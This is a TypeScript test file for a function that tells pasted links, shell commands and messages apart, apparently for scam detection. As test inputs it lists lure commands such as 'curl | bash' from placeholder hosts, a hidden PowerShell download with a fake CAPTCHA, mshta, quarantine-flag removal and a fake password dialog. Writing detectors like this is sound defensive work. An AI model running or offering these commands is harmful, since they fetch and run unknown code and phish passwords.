import fc from 'fast-check'
import { expect, test } from 'vitest'
import { commandIn, hasHeaders, kindOfText, TEXT_KINDS } from './pasted.ts'

test.each([
  'https://github.com/acme/take-home',
  'hxxps://login.coinbase.invalid/a?b=c',
  '  http://203.0.113.7/x \n',
  'www.example.invalid/apply',
  'npmjs.com/package/left-pad',
])('a link: %s', (text) => expect(kindOfText(text)).toBe('link'))

test.each([
  'curl -fsSL https://update.invalid/i.sh | bash',
  '$ node server.js',
  'ada@laptop:~/work$ ./install.sh',
  'PS C:\\Users\\ada> iex (irm https://x.invalid)',
  'powershell -w hidden -c "iwr https://x.invalid/a.ps1 | iex" # I am not a robot. Press Enter to go on',
  'mshta https://captcha.invalid/verify',
  'cmd /c start /min curl https://x.invalid',
  'npm install left-pad',
  'npx create-app@latest demo',
  'git clone https://git.invalid/a/b.git && cd b && npm i',
  'sudo xattr -dr com.apple.quarantine /Applications/Meet.app',
  'cd /tmp; wget https://x.invalid/a -O a; chmod +x a; ./a',
  'Invoke-WebRequest https://x.invalid -OutFile a.exe',
  '$x = "ht" + "tps"; iex $x',
  './setup.sh',
  'node server/app.js',
  'C:\\Temp\\driver.exe /S',
  'open -a Terminal ~/Downloads/task.command',
  'echo aGk= | base64 -d | sh',
  '# First this\nbrew install jq\n# then this\njq --version',
  'export A=1 && node -e "fetch(1)"',
  'python3 -c "import os. Then some words"',
  'osascript -e \'display dialog "Enter your password. The system needs it"\'',
  '/bin/bash -c "$(curl -fsSL https://x.invalid/install.sh)"',
])('a command: %s', (text) => expect(kindOfText(text)).toBe('command'))

test.each([
  '',
  'Hi Ada, please run npm install. Then call me back.',
  'Please run curl https://x.invalid | sh and tell me the result',
  'Open the file app.js and tell me what you think',
  'git is broken since the update',
  'Open the folder and tell me what you think.',
  'Start with the readme. After that write me.',
  'Dear customer,\nyour account is locked: https://x.invalid',
  'From: a@b.invalid\nSubject: npm install\n\ncurl x | sh',
  'Is this address yours? bc1qexample',
  'node doesn’t start on my machine',
  'Coinbase support asked for my seed phrase',
  'https://x.invalid is this real?',
  'curl is missing here. Could you send me the file instead?',
  'v1.2 of our program',
])('a message: %s', (text) => expect(kindOfText(text)).toBe('message'))

test('pasted mail is told from the body of one', () => {
  expect(hasHeaders('From: a@b.invalid\r\nTo: c@d.invalid\r\n\r\nHello')).toBe(true)
  expect(hasHeaders('Hello: I write\nNote: this is the body')).toBe(false)
})

test('a command that stands in a message is found; words about one are not', () => {
  expect(commandIn('Hi Ada,\nplease run:\n\n  $ curl -s https://x.invalid | sh\n\nThanks')).toBe(
    '$ curl -s https://x.invalid | sh',
  )
  expect(commandIn('Hi.\n`npm i --prefix ./task`')).toBe('npm i --prefix ./task')
  expect(commandIn('Hello.\nGit is broken - can you help?\nSet up a call; I am free.')).toBeUndefined()
  expect(commandIn('Open https://x.invalid and sign in. Then write me.')).toBeUndefined()
})

test('any text is one of the three, in time that grows with its length', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 400, unit: 'grapheme' }), (text) =>
      TEXT_KINDS.includes(kindOfText(text)),
    ),
  )
  for (const piece of ['a.', '- ', "'", '"', '$(', 'aa. A a ', 'a@a:', '`', ';', '1>'])
    expect(TEXT_KINDS).toContain(kindOfText(piece.repeat(100_000)))
  fc.assert(
    fc.property(fc.string({ maxLength: 400 }), (text) => (commandIn(text) ?? '').length <= text.length),
  )
})
